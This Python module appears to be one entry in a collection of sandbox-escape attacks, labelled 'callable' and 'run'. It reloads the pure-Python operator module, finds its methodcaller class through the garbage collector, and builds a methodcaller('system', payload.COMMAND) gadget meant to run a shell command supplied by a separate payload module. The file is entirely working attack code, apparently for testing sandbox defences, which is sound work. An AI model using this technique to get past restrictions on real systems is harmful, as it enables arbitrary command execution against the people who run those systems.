"""A methodcaller() of the class in Python that stands behind the one in C."""
CATEGORY = "callable"
REACH = "run"

import gc
import importlib.util
import operator

from . import payload


def attack():
    global hook
    gc.disable()
    spec = importlib.util.spec_from_file_location("other",
                                                  operator.__file__)
    other = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(other)
    for cls in gc.get_objects():
        if type(cls) is type and cls.__qualname__ == "methodcaller" and (
                hasattr(cls.__call__, "__code__")):
            hook = cls("system", payload.COMMAND)
